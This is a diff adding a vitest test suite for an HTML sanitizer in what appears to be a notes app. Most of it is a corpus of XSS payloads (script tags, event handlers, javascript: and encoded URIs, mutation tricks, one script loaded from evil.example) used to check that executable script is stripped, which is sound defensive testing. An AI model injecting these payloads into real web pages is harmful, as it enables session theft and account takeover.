@@ -0,0 +1,133 @@
+import { describe, expect, it } from 'vitest';
+import { sanitizeHtml } from './sanitize';
+
+// 常见的XSS写法，过滤后不能留下可执行的脚本
+const XSS_CORPUS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</script>',
+  '<script>document.write("<p>")</script><p>after</p>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)">',
+  "<img src='x' onerror='alert(1)'>",
+  '<img src=x ONERROR=alert(1)>',
+  '<img/src=x/onerror=alert(1)>',
+  '<img src=x onerror\n=\nalert(1)>',
+  '<img """><script>alert(1)</script>">',
+  '<img src="javascript:alert(1)">',
+  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
+  '<body onload=alert(1)>',
+  '<p onclick="alert(1)">click</p>',
+  '<p onmouseover=alert(1)>hover</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
+  '<a href="javascript&colon;alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href=javascript:alert(1)>x</a>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+  '<style>body{background:url("javascript:alert(1)")}</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<span style="color: expression(alert(1))">x</span>',
+  '<span style="color: red; behavior: url(x.htc)">x</span>',
+  '<div style="-moz-binding: url(x.xml#xss)">x</div>',
+  '<form action="javascript:alert(1)"><button>x</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>',
+  '<video><source onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<base href="javascript:alert(1)//">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="javascript:alert(1)">',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<!--<img src=x onerror=alert(1)>-->',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<!-- --!><img src=x onerror=alert(1)>',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
+  '<a href="https://example.com" title="\'><script>alert(1)</script>">x</a>',
+  '<img src=x onerror=alert(1)',
+  '<p>unclosed <strong>bold',
+  '</p></div><img src=x onerror=alert(1)>',
+  '<plaintext><img src=x onerror=alert(1)>'
+];
+
+const ALLOWED_TAGS = new Set([
+  'p', 'br', 'span', 'strong', 'em', 'u', 's', 'sub', 'sup', 'code', 'a', 'img', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
+  'blockquote', 'pre', 'ol', 'ul', 'li', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td'
+]);
+
+// 检查输出中的每个标签和属性
+function assertSafe(html: string) {
+  for (const [, tag, attributes] of html.matchAll(/<\/?([^\s>/]+)([^>]*)>/g)) {
+    expect(ALLOWED_TAGS.has(tag)).toBe(true);
+
+    for (const [, name, value] of attributes.matchAll(/\s([^\s=]+)="([^"]*)"/g)) {
+      expect(name.startsWith('on')).toBe(false);
+      expect(value).not.toMatch(/^\s*(javascript|vbscript|data:text)/i);
+      expect(value).not.toMatch(/expression|url\(|binding/i);
+    }
+  }
+}
+
+describe('sanitizeHtml', () => {
+  it.each(XSS_CORPUS)('removes script from %s', (payload) => {
+    const clean = sanitizeHtml(payload);
+
+    assertSafe(clean);
+    expect(clean).not.toMatch(/<(script|iframe|svg|math|object|embed|style)/i);
+    // 过滤结果再次过滤不变，说明浏览器解析输出时不会得到不同的结构
+    expect(sanitizeHtml(clean)).toBe(clean);
+  });
+
+  it('keeps the HTML produced by Quill', () => {
+    const html = [
+      '<h1>Title</h1>',
+      '<p class="ql-align-center"><strong>bold</strong> <em>italic</em> <u>underline</u> <s>strike</s></p>',
+      '<p><span style="color: rgb(230, 0, 0); background-color: rgb(255, 255, 0);">colored</span> x<sub>2</sub> x<sup>2</sup></p>',
+      '<ol><li>one</li><li class="ql-indent-1">nested</li></ol>',
+      '<ul><li>bullet</li></ul>',
+      '<blockquote>quote</blockquote>',
+      '<pre class="ql-syntax" spellcheck="false">if (a &lt; b) {}</pre>',
+      '<p><a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">link</a></p>',
+      '<p><img src="/api/note/a/attachments/1"></p>',
+      '<p><br></p>'
+    ].join('');
+
+    expect(sanitizeHtml(html)).toBe(html);
+  });
+
+  it('keeps the HTML produced by the Markdown renderer', () => {
+    const html = '<pre><code class="language-js">x</code></pre><hr><table><thead><tr><th>a</th></tr></thead>' +
+      '<tbody><tr><td>b</td></tr></tbody></table><p><a href="/notes/b" class="wiki-link">[[notes/b]]</a></p>';
+
+    expect(sanitizeHtml(html)).toBe(html);
+  });
+
+  it('keeps text and entities while escaping stray markup characters', () => {
+    expect(sanitizeHtml('<p>a &amp; b &copy; & c < d > e</p>')).toBe('<p>a &amp; b &copy; &amp; c &lt; d &gt; e</p>');
+    expect(sanitizeHtml('<div><font color="red">text</font></div>')).toBe('text');
+  });
+
+  it('closes unbalanced tags', () => {
+    expect(sanitizeHtml('<p><strong>bold</p>after')).toBe('<p><strong>bold</strong></p>after');
+    expect(sanitizeHtml('</em>text<em>')).toBe('text<em></em>');
+  });
+});